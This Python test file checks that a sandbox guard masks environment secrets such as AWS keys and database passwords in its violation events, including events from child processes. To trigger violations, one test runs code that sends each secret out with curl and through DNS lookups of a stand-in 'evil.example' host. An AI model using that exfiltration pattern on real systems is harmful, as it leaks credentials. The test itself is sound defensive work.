"""Secrets in the function's environment are masked in its events."""

from __future__ import annotations

import json

import pytest

from tests.contract.acting import ALERT, BLOCK
from tests.contract.helpers import (
    PYTHON,
    launch,
)
from tests.support import (
    rules,
    run_guarded,
)

# ---- secrets ----


def test_secrets_are_masked() -> None:
    env = {
        "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG",
        "AWS_SESSION_TOKEN": "IQoJb3JpZ2luX2VjE",
        "DB_PASSWORD": "correct horse",
        "stripe_api_key": "sk_live_abcdef",
        "PLAIN": "plain-value",
    }
    secrets = [value for name, value in env.items() if name != "PLAIN"]
    code = (
        f"import os, socket, subprocess\nfor value in {list(env.values())!r}:\n  for act in"
        " (lambda: open('/tmp/' + value), lambda: os.mkdir('/tmp/function-shield-a' + value +"
        " 'b'),\n              lambda: subprocess.run(['/usr/bin/curl', '-d', value,"
        " 'http://x']),\n              lambda: socket.getaddrinfo(value.replace('/',"
        " '-').replace(' ', '-') + '.evil.example', 80),\n              lambda:"
        " exec(compile('open(\"/tmp/x\")', value, 'exec'))):\n    try: act()\n    except OSError:"
        " pass\n"
    )
    for policy in (BLOCK, ALERT):
        result = run_guarded([PYTHON, "-c", code], policy=policy, env=env, timeout=60)
        shown = json.dumps(result.violations)
        assert len(result.violations) > 10
        for secret in secrets:
            assert secret not in shown
        assert "***" in shown and "plain-value" in shown


def test_more_secrets_than_are_kept_in_full() -> None:
    """There is no room to keep this secret in full. The guard recognises its beginning, and masks
    the text from there."""
    env = {f"TOKEN_{number:03}": f"value-{number:03}-{'x' * 20}" for number in range(100)} | {
        "PLAIN": "plain-value"
    }
    code = (
        "import os\n"
        f"for value in {list(env.values())!r} + ['value-0']:\n"
        "  try: open('/tmp/before-' + value + '-behind')\n  except OSError: pass\n"
    )
    result = run_guarded([PYTHON, "-c", code], policy=BLOCK, env=env, timeout=60)
    shown = json.dumps(result.violations)
    assert not [value for name, value in env.items() if name != "PLAIN" and value[6:] in shown]
    assert (
        "before-***" in shown
        and "before-plain-value-behind" in shown
        and "before-value-0-behind" in shown
    )


def test_with_too_many_secrets_every_text_is_masked() -> None:
    env = {f"TOKEN_{number:03}": f"value-{number:03}-{'x' * 20}" for number in range(200)}
    code = "try: open('/tmp/' + 'value-199-' + 20 * 'x')\nexcept OSError: pass"
    result = run_guarded([PYTHON, "-c", code], policy=BLOCK, env=env, timeout=60)
    written = [
        line
        for line in (result.stderr + json.dumps(result.events)).splitlines()
        if "function_shield" in line
    ]
    assert written and "value-199" not in "".join(written) and "***" in "".join(written)


@pytest.mark.parametrize("count", [1, 60, 200])
def test_a_childs_events_mask_its_parents_secrets(count: int) -> None:
    """The child has another environment, but may still be given the values."""
    env = {f"TOKEN_{number:03}": f"value-{number:03}-{'x' * 20}" for number in range(count)}
    inner = "import sys\ntry: open('/tmp/a-' + sys.argv[1] + '-b')\nexcept OSError: pass"
    code = (
        "import subprocess, sys\n"
        f"for value in {list(env.values())[-1:]!r}:\n"
        f"  subprocess.run([sys.executable, '-c', {inner!r}, value], env={{}}, check=True)\n"
    )
    policy = rules(tmp="block", process="allow")
    result = run_guarded([PYTHON, "-c", code], policy=policy, env=env, timeout=60)
    shown = result.stderr + json.dumps(result.events)
    assert [event for event in result.events if event["event"] == "violation"]
    assert "***" in shown and f"value-{count - 1:03}" not in shown


def test_a_secret_in_a_refusal() -> None:
    """The launcher's own sentence may quote a variable that was set to a secret by mistake."""
    env = {
        "DB_PASSWORD": "correct-horse-battery",
        "FUNCTION_SHIELD_POLICY": "correct-horse-battery",
    }
    result = launch(["/bin/true"], env=env)
    assert result.returncode == 78
    assert "correct-horse-battery" not in json.dumps(result.events)
